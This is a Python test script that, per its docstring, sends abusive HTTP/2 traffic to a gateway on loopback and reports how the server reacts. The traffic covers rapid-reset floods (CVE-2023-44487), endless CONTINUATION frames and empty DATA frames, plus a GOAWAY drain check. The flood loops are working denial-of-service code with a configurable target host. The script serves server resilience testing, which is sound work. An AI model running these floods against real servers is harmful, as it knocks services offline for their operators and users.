#!/usr/bin/env python3
"""HTTP/2 abuse against a gateway on loopback (issue 5, item 4).

    abuse.py HOST PORT MODE [COUNT]

MODE is one of:
  rapid-reset   HEADERS then RST_STREAM on stream after stream (CVE-2023-44487)
  continuation  one HEADERS without END_HEADERS, then endless CONTINUATION frames
  empty-data    one POST stream, then endless zero-length DATA frames
  goaway        one slow request in flight; report the GOAWAY the server sends
                when it drains (the test sends SIGTERM meanwhile)

Prints one JSON line: whether the server sent GOAWAY (and its error code and
last stream id), whether it closed the connection, how many frames were sent
before that, and how long it took.
"""
import json
import socket
import sys
import time

import h2.config
import h2.connection
import h2.exceptions
import hpack
from hyperframe.frame import ContinuationFrame, DataFrame, HeadersFrame, RstStreamFrame


def main():
    host, port, mode = sys.argv[1], int(sys.argv[2]), sys.argv[3]
    count = int(sys.argv[4]) if len(sys.argv) > 4 else 100_000
    sock = socket.create_connection((host, port))
    sock.settimeout(0.001)
    conn = h2.connection.H2Connection(config=h2.config.H2Configuration(client_side=True, header_encoding="utf-8"))
    conn.initiate_connection()
    sock.sendall(conn.data_to_send())
    result = {"mode": mode, "goaway": False, "error_code": None, "last_stream_id": None, "closed": False,
              "frames_sent": 0, "responses": 0, "seconds": 0.0}
    started = time.time()
    raw = bytearray()
    answered = set()
    authority = f"{host}:{port}"

    def pump(wait=0.0):
        """Read what the server sent; True once the connection is over.

        The floods read after every frame: a server that closes on a client
        still writing resets the connection, and a GOAWAY not yet read is
        lost with it (reading every fourth frame lost it, rarely, under load)."""
        deadline = time.time() + wait
        while True:
            try:
                data = sock.recv(65536)
            except socket.timeout:
                if time.time() >= deadline:
                    return False
                continue
            except (ConnectionResetError, BrokenPipeError):
                result["closed"] = True
                return True
            if not data:
                result["closed"] = True
                return True
            # What the server said is read from the raw frames: python-h2
            # stops at the first GOAWAY (and errors on what follows), but a
            # draining server sends two and keeps answering in between.
            raw.extend(data)
            while len(raw) >= 9:
                length = int.from_bytes(raw[0:3], "big")
                if len(raw) < 9 + length:
                    break
                kind, stream = raw[3], int.from_bytes(raw[5:9], "big") & 0x7FFFFFFF
                payload = bytes(raw[9:9 + length])
                del raw[:9 + length]
                if kind == 0x7:  # GOAWAY
                    result["goaway"] = True
                    result["last_stream_id"] = int.from_bytes(payload[0:4], "big") & 0x7FFFFFFF
                    result["error_code"] = int.from_bytes(payload[4:8], "big")
                elif kind == 0x1 and stream not in answered:  # HEADERS: a response
                    answered.add(stream)
                    result["responses"] += 1
            try:
                conn.receive_data(data)
            except h2.exceptions.ProtocolError:
                pass
            try:
                out = conn.data_to_send()
                if out:
                    sock.sendall(out)
            except OSError:
                result["closed"] = True
                return True

    def send_raw(frame_bytes):
        try:
            sock.sendall(frame_bytes)
            result["frames_sent"] += 1
            return True
        except OSError:
            result["closed"] = True
            return False

    # Frames are written by hand, so headers get an encoder of their own;
    # only what is sent may be encoded (HPACK state is shared with the server).
    encoder = hpack.Encoder()
    get = [(":method", "GET"), (":scheme", "http"), (":authority", authority), (":path", "/abuse")]
    try:
        if mode == "rapid-reset":
            stream = 1
            for _ in range(count):
                f = HeadersFrame(stream, data=encoder.encode(get), flags=["END_HEADERS", "END_STREAM"])
                r = RstStreamFrame(stream, error_code=8)  # CANCEL
                if not send_raw(f.serialize() + r.serialize()):
                    break
                stream += 2
                if pump():
                    break
        elif mode == "continuation":
            f = HeadersFrame(1, data=encoder.encode(get), flags=["END_STREAM"])  # no END_HEADERS
            send_raw(f.serialize())
            junk = encoder.encode([("x-junk", "a" * 1000)])
            for _ in range(count):
                if not send_raw(ContinuationFrame(1, data=junk).serialize()):
                    break
                if pump():
                    break
        elif mode == "empty-data":
            post = encoder.encode([(":method", "POST"), (":scheme", "http"), (":authority", authority),
                                   (":path", "/abuse")])
            send_raw(HeadersFrame(1, data=post, flags=["END_HEADERS"]).serialize())
            for _ in range(count):
                if not send_raw(DataFrame(1, data=b"").serialize()):
                    break
                if pump():
                    break
        elif mode == "goaway":
            conn.send_headers(1, [(":method", "GET"), (":scheme", "http"), (":authority", authority),
                                  (":path", "/slow"), ("x-delay-ms", "1500")], end_stream=True)
            sock.sendall(conn.data_to_send())
            print("sent", flush=True)
            end = time.time() + 10
            while time.time() < end and not pump(0.05):
                if result["goaway"] and result["responses"]:
                    break
        else:
            sys.exit(f"unknown mode {mode}")
        if not result["closed"]:
            pump(2.0)
    finally:
        result["seconds"] = round(time.time() - started, 3)
        print(json.dumps(result), flush=True)
        sock.close()


if __name__ == "__main__":
    main()
